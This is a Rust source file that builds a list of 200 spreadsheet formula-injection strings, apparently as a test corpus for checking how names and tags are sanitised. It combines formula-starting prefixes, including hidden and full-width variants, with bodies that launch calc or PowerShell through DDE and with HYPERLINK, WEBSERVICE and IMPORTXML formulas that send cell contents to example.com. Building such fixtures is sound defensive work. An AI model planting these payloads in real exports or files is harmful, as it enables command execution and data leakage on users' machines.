//! What people and attackers put into names and tags: two hundred texts that a spreadsheet may run.

/// Beginnings that make a formula of what follows, in one spreadsheet or another, or that hide one.
const BEGINNINGS: [&str; 20] = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u{a0}=",
    "\u{feff}=",
    "\u{200b}=",
    "'=",
    "\"=",
    "=\t",
    "\u{202e}=",
];

const BODIES: [&str; 10] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"https://example.com/?\"&A1,\"open\")",
    "WEBSERVICE(\"https://example.com/\"&A1)",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "IMPORTXML(CONCAT(\"https://example.com/\",A1),\"//a\")",
    "SUM(A1:A2)*cmd|'/C powershell'!A0",
    "MSEXCEL|'\\..\\..\\calc.exe'!''",
    "1;=2,=3\t=4",
    "_x0041_<f>1</f>&amp;]]>",
];

/// All of them.
pub fn payloads() -> Vec<String> {
    BEGINNINGS
        .iter()
        .flat_map(|beginning| BODIES.iter().map(move |body| format!("{beginning}{body}")))
        .collect()
}
